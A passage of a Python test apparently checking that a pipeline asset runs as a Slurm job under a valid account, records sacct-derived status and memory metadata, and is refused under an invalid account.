        ok = materialize(studies["slurm"], ["baselines"], slurm(tmp_path, account="interp"), instance,
                         partition_key="ioi")
        assert ok.success, failure_text(ok)
        md = ok.asset_materializations_for_node("baselines")[0].metadata
        refused = materialize(studies["slurm"], ["baselines"], slurm(tmp_path, account="nosuchaccount"), instance,
                              partition_key="ioi")
    assert md["slurm/status_source"].value == "sacct"
    assert md["slurm/state"].value == "COMPLETED"
    assert re.fullmatch(r"\d+(\.\d+)?[KMG]?", str(md["slurm/max_rss"].value)), md["slurm/max_rss"].value
    sacct = subprocess.run(["sacct", "-X", "-P", "-n", "-j", str(md["slurm/job_id"].value), "-o", "JobName,State,Account"],
                           capture_output=True, text=True, timeout=60)
    assert sacct.returncode == 0 and sacct.stdout.split("\n")[0] == "ia-baselines|COMPLETED|interp", sacct
    assert not refused.success
    assert "Invalid account or account/partition combination specified" in failure_text(refused)
